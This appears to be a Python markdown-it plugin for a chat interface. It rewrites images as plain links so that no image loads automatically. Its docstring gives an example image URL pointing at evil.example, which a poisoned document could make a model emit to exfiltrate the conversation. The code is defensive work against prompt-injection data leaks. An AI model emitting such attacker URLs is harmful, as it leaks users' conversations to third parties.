"""Links open beside the conversation; images become links, for to load one tells its host.

`![](https://evil.example/?q=…)`, which a poisoned document can make a model write,
would send what was said to whoever asked for it, without a click.
"""

import re
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.rules_core import StateCore
from markdown_it.token import Token

ALLOWED = re.compile(r"(https?://|mailto:)", re.IGNORECASE)
CITATION = re.compile(r"#attachment-[1-9]\d{0,2}")


def is_allowed(url: str) -> bool:
    return ALLOWED.match(url) is not None


def plugin(parser: MarkdownIt) -> None:
    parser.core.ruler.after("linkify", "links", links)


def links(state: StateCore) -> None:
    for token in state.tokens:
        if token.children:
            token.children = _without_images(token.children)


def _without_images(tokens: list[Token]) -> list[Token]:
    kept: list[Token] = []
    is_in_link = False
    for token in tokens:
        if token.type in ("link_open", "link_close"):
            is_in_link = token.type == "link_open"
        if token.type == "link_open":
            token.attrs["target"] = "_blank"
        if token.type == "image":
            kept += _described(token, is_in_link)
        else:
            kept.append(token)
    return kept


def _described(image: Token, is_in_link: bool) -> list[Token]:
    source = str(image.attrs["src"])
    text = Token("text", "", 0, content=f"image: {_alt(image)} ({_host(source)})")
    if is_in_link:
        return [text]
    attrs: dict[str, str | int | float] = {"href": source, "target": "_blank"}
    return [Token("link_open", "a", 1, attrs=attrs), text, Token("link_close", "a", -1)]


def _alt(image: Token) -> str:
    # Images in an image's text have none of their own worth showing.
    texts = [t.content for t in image.children or () if t.type in ("text", "code_inline")]
    return "".join(texts).strip() or "untitled"


def _host(url: str) -> str:
    try:
        return urlsplit(url).hostname or url
    except ValueError:  # such as https://[1
        return url
